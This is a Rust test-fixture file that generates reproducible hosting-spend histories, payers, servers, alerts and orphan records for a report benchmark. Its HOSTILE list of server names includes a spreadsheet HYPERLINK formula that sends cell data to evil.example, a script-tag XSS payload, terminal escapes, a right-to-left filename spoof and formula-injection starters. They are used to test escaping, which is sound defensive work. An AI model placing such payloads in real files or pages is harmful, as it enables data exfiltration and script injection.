//! A site whose money moves by rule: the reference month, and longer histories of the same kind for the benchmark.

use std::collections::BTreeMap;

use chrono_tz::Tz;
use quarterdeck::model::account::Provider;
use quarterdeck::model::balance::BalanceKey;
use quarterdeck::model::ids::ServerKey;
use quarterdeck::model::money::{Currency, Money, Rates};
use quarterdeck::model::site::Site;
use quarterdeck::model::spend::{
    Alert, AlertEvent, AlertKey, AlertLevel, BurnerOwner, Movement, MovementPolicy, Reading, Silence,
    movements, normalised,
};
use quarterdeck::model::time::Timestamp;
use quarterdeck::report::{OrphanRecord, PayerInput, ReportInput, ServerSpend, SpendSource, Stretch};
use rust_decimal::Decimal;

pub const HOUR_MS: u64 = 3_600_000;
pub const ZONE: Tz = chrono_tz::Europe::Berlin;

/// Names as customers give them.
pub const HOSTILE: [&str; 10] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "<script>alert(1)</script> & \"friends\"",
    "\u{1b}[31mred\u{1b}[0m \u{202e}gnp.exe",
    "日本サーバー ★ Ünïçødé Сервер",
    "a very long name of a server that somebody gave it because nothing stopped them from writing on and on, past the edge of \
     the column and of the page, and then some more until even they were tired of it",
    "+49 30 123456, \"Berlin\"",
    "line one\r\nline two",
    "-2+3",
    "@SUM(A1:A9)",
    "   ",
];

pub fn moment(text: &str) -> Timestamp {
    Timestamp::parse(text).expect("a moment")
}

/// The same numbers on every run.
pub struct Dice(u64);

impl Dice {
    pub fn new(seed: u64) -> Self {
        Self(seed)
    }

    /// A number below `below`.
    pub fn roll(&mut self, below: u64) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % below
    }
}

/// Hourly readings of a balance that is topped up by 1,000 whenever it falls under 300; hours without a reading are
/// those for which `is_missed` says so.
pub fn balance(
    start: Timestamp,
    hours: u64,
    per_hour_milli: u64,
    seed: u64,
    is_missed: &dyn Fn(u64) -> bool,
) -> Vec<Movement> {
    let mut dice = Dice::new(seed);
    let (mut balance, mut declared) = (Decimal::from(2_400), Decimal::ZERO);
    let mut readings = Vec::new();
    for hour in 0..=hours {
        if !is_missed(hour) {
            let at = start.plus_millis(hour * HOUR_MS);
            readings.push(Reading { sequence: hour, at, balance, declared_total: declared });
        }
        let evening = if (16..23).contains(&((hour + 2) % 24)) { 3 } else { 1 };
        let weekend = if hour / 24 % 7 >= 5 { 2 } else { 1 };
        let spent = (per_hour_milli / 2 + dice.roll(per_hour_milli)) * evening * weekend;
        let spent = Decimal::new(i64::try_from(spent).expect("small"), 3);
        balance -= spent;
        declared += spent;
        if balance < Decimal::from(300) {
            balance += Decimal::from(1_000);
        }
    }
    let policy = MovementPolicy { gap_after_ms: 2 * HOUR_MS, top_up_unit: Decimal::from(1_000) };
    movements(&normalised(&readings), &policy)
}

/// What ran on the panel, day by day.
fn declared(start: Timestamp, hours: u64) -> Vec<Stretch> {
    let mut dice = Dice::new(77);
    (0..hours)
        .map(|hour| Stretch {
            from: start.plus_millis(hour * HOUR_MS),
            to: start.plus_millis((hour + 1) * HOUR_MS),
            spent: Decimal::new(i64::try_from(180_000 + dice.roll(9_000)).expect("small"), 6),
            is_gap: false,
        })
        .collect()
}

pub fn exaroton() -> BalanceKey {
    BalanceKey::account("exa-main".into())
}

pub fn dathost() -> BalanceKey {
    BalanceKey::account("dathost".into())
}

pub fn panel() -> BalanceKey {
    BalanceKey::account("panel".into())
}

pub fn site() -> Site {
    Site {
        name: "Nordlicht Hosting".to_owned(),
        word: "PRODUCTION".to_owned(),
        rates: Rates {
            reporting: Currency("EUR".to_owned()),
            per_unit: BTreeMap::from([(Currency("credits".to_owned()), Decimal::new(1, 2))]),
        },
        ..Site::default()
    }
}

fn payer(key: BalanceKey, name: &str, provider: Provider, unit: &str, spend: SpendSource) -> PayerInput {
    PayerInput { key, name: name.to_owned(), provider, unit: Currency(unit.to_owned()), spend }
}

fn place(index: u64) -> usize {
    usize::try_from(index).expect("small")
}

/// Every payer's spend shared among its servers by weights; a part of it stays unexplained.
fn servers(payers: &[PayerInput], count: u64, hours: u64) -> Vec<ServerSpend> {
    let mut dice = Dice::new(4);
    let weights: Vec<u64> = (0..count).map(|_| 1 + dice.roll(40) * dice.roll(10)).collect();
    let total_of = |payer: &PayerInput| -> Decimal {
        match &payer.spend {
            SpendSource::Observed(movements) => movements.iter().map(|movement| movement.spent).sum(),
            SpendSource::Declared(stretches) => stretches.iter().map(|stretch| stretch.spent).sum(),
        }
    };
    let number = payers.len() as u64;
    (0..count)
        .map(|index| {
            let which = place(index % number);
            let payer = &payers[which];
            let whole: u64 =
                (0..count).filter(|other| other % number == index % number).map(|i| weights[place(i)]).sum();
            let share = Decimal::from(weights[place(index)]) / Decimal::from(whole);
            let running = (total_of(payer) * Decimal::new(96, 2) * share).round_dp(6);
            let name = HOSTILE.get(place(index)).map_or_else(
                || {
                    format!(
                        "{}-{index:03}",
                        ["survival", "creative", "match", "lobby", "modded"][place(index % 5)]
                    )
                },
                |name| (*name).to_owned(),
            );
            let owner = match index % 7 {
                0..=3 => BurnerOwner::Order(format!("{}", 800 + index).into()),
                4 => BurnerOwner::Match(format!("m-{index}").into()),
                5 => BurnerOwner::Deployment(format!("web-{index}").into()),
                _ => BurnerOwner::Unowned,
            };
            ServerSpend {
                server: ServerKey { account: payer.key.account.clone(), id: format!("srv{index:04}") },
                name,
                payer: payer.key.clone(),
                owner,
                running,
                committed: if index % 4 == 0 { Decimal::new(125, 2) } else { Decimal::ZERO },
                ran_ms: (index % 3 != 2).then(|| dice.roll(hours) * HOUR_MS),
            }
        })
        .collect()
}

fn alerts(from: Timestamp) -> Vec<(Timestamp, AlertEvent)> {
    let day = |days: u64| from.plus_millis(days * 24 * HOUR_MS);
    let fired = |key: AlertKey, level, text: &str, since: Timestamp| {
        (since, AlertEvent::Fired(Alert { key, level, text: text.to_owned(), since, silence: None }))
    };
    let silence = Silence { by: "anna@desk".into(), reason: "top-up is ordered".to_owned(), until: day(14) };
    vec![
        fired(
            AlertKey::Mismatch(dathost()),
            AlertLevel::Warning,
            "falls 12 % faster than declared",
            Timestamp(from.0 - 7_200_000),
        ),
        (day(1), AlertEvent::Resolved(AlertKey::Mismatch(dathost()))),
        fired(AlertKey::Runway(exaroton()), AlertLevel::Warning, "runs out in 5 days", day(12)),
        (day(13), AlertEvent::Silenced(AlertKey::Runway(exaroton()), silence)),
        fired(AlertKey::Runway(exaroton()), AlertLevel::Critical, "runs out in 20 h", day(15)),
        (day(16), AlertEvent::Resolved(AlertKey::Runway(exaroton()))),
        fired(
            AlertKey::BudgetBurn(2),
            AlertLevel::Warning,
            "the month's budget burns 1.3 times too fast over 3 d",
            day(26),
        ),
    ]
}

fn orphans(from: Timestamp) -> Vec<OrphanRecord> {
    let at = |hours: u64| from.plus_millis(hours * HOUR_MS);
    let record = |id: &str, name: &str, per_hour: Money, found: u64, ended: Option<u64>| OrphanRecord {
        server: ServerKey { account: "dathost".into(), id: id.to_owned() },
        name: name.to_owned(),
        per_hour,
        found_at: at(found),
        ended_at: ended.map(at),
        ended_by: ended.map(|_| "anna@desk".into()),
    };
    vec![
        record("5f1a", "scrim of last spring", Money::new(Decimal::new(4, 2), "EUR"), 100, Some(110)),
        record("77b0", "test, please ignore", Money::new(Decimal::new(35, 1), "credits"), 300, Some(303)),
        record("9c2d", "nobody knows", Money::new(Decimal::new(2, 2), "EUR"), 700, None),
    ]
}

/// A site over `hours` hours from `from`, with `count` servers.
pub fn history(from: Timestamp, hours: u64, count: u64) -> ReportInput {
    // A day and an evening without the machine, and one reading lost, which is no gap.
    let is_missed = |hour: u64| (249..263).contains(&hour) || (600..605).contains(&hour) || hour == 400;
    let before = Timestamp(from.0 - 24 * 3_600_000);
    let payers = vec![
        payer(
            exaroton(),
            "exaroton main",
            Provider::Exaroton,
            "credits",
            SpendSource::Observed(balance(before, hours + 48, 3_000, 1, &is_missed)),
        ),
        payer(
            dathost(),
            "DatHost",
            Provider::Dathost,
            "EUR",
            SpendSource::Observed(balance(before, hours + 48, 400, 2, &|hour| (610..616).contains(&hour))),
        ),
        payer(
            panel(),
            "Panel Falkenstein",
            Provider::Pterodactyl,
            "EUR",
            SpendSource::Declared(declared(from, hours)),
        ),
    ];
    let to = from.plus_millis(hours * HOUR_MS);
    ReportInput {
        site: site(),
        zone: ZONE,
        from,
        to,
        generated_at: to.plus_millis(8 * HOUR_MS),
        servers: servers(&payers, count, hours),
        payers,
        alerts: alerts(from),
        orphans: orphans(from),
        notes: vec!["The machine was off on 10 October for the move to the new rack.".to_owned()],
    }
}

/// October 2026 in Berlin: 31 days, one of them with 25 hours.
pub fn reference_month() -> ReportInput {
    history(moment("2026-09-30T22:00:00Z"), 31 * 24 + 1, 40)
}

/// Three days and a few servers, small enough to read whole.
pub fn three_days() -> ReportInput {
    let mut input = history(moment("2026-10-23T22:00:00Z"), 3 * 24 + 1, 6);
    input.alerts.truncate(2);
    input.orphans.truncate(1);
    input.orphans[0].found_at = input.from.plus_millis(5 * HOUR_MS);
    input.orphans[0].ended_at = Some(input.from.plus_millis(9 * HOUR_MS));
    input
}
